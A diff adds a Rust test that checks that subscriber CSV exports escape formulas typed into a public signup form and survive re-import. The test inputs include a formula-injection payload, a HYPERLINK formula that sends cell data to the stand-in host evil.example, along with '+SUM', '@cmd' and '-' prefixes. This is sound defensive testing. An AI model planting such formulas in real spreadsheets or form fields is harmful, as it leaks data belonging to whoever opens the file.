@@ -515,6 +515,94 @@ async fn a_session_ends_twelve_hours_after_its_sign_in_however_busy() {
     );
 }
 
+/// The cells of a CSV, row by row.
+fn csv_rows(text: &str) -> Vec<Vec<String>> {
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn exports_keep_formulas_from_the_form_as_text() {
+    let site = TestSite::new(None);
+    site.append_config(&format!("\n[server]\nadmin_token = \"{TOKEN}\"\n"));
+    let s = RunningServer::start(&site, false).await;
+    // What a stranger can type into the public form.
+    let typed = [
+        (
+            "=1+2@example.org",
+            r#"=HYPERLINK("https://evil.example/?x="&A1,"click")"#,
+        ),
+        ("-3@example.org", "+SUM(1,2)"),
+        ("plain@example.org", "@cmd"),
+        ("quoted@example.org", "'already text"),
+        ("kim@example.org", "김독자"),
+    ];
+    for (email, name) in typed {
+        let r = s
+            .client
+            .post(s.url("/subscribe"))
+            .form(&[("email", email), ("name", name)])
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(r.status(), 200, "{email}");
+    }
+    s.app.subscriptions().settled().await;
+    let signed = sign_in(&s, TOKEN).await.expect("signed in");
+    let r = signed.get(&s, "/admin/subscribers.csv").await;
+    assert_eq!(r.status(), 200);
+    let dashboard = r.text().await.unwrap();
+    let cli = site.cli(&["subscribers", "export"]).await;
+    assert_eq!(cli.code, 0, "{}", cli.stderr);
+    assert_eq!(cli.stdout, dashboard, "one export for both");
+
+    let rows = csv_rows(&dashboard);
+    assert_eq!(rows.len(), typed.len() + 1, "{dashboard}");
+    for cell in rows.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a formula in {cell:?}"
+        );
+    }
+    let find = |email: &str| {
+        rows.iter()
+            .find(|r| r[0].trim_start_matches('\'') == email)
+            .unwrap_or_else(|| panic!("{email} in {dashboard}"))
+            .clone()
+    };
+    assert_eq!(find("=1+2@example.org")[0], "'=1+2@example.org");
+    assert_eq!(
+        find("=1+2@example.org")[1],
+        r#"'=HYPERLINK("https://evil.example/?x="&A1,"click")"#
+    );
+    assert_eq!(
+        find("-3@example.org")[..2],
+        ["'-3@example.org", "'+SUM(1,2)"]
+    );
+    assert_eq!(find("plain@example.org")[1], "'@cmd");
+    assert_eq!(find("quoted@example.org")[1], "''already text");
+    assert_eq!(find("kim@example.org")[..2], ["kim@example.org", "김독자"]);
+
+    // The export imported elsewhere gives back the same addresses and names.
+    let other = TestSite::new(None);
+    let file = other.path().join("export.csv");
+    std::fs::write(&file, &cli.stdout).unwrap();
+    let imported = other
+        .cli(&["subscribers", "import", file.to_str().unwrap()])
+        .await;
+    assert_eq!(imported.code, 0, "{}", imported.stderr);
+    let app = other.app().await;
+    for (email, name) in typed {
+        let subscriber = other.subscriber(&app, email).await.expect(email);
+        assert_eq!(subscriber.name, name, "{email}");
+    }
+    app.close().await;
+}
+
 #[tokio::test(flavor = "multi_thread")]
 async fn dashboard_answers_carry_a_tight_policy_and_no_inline_script() {
     let (_smtp, site) = site_with_data().await;
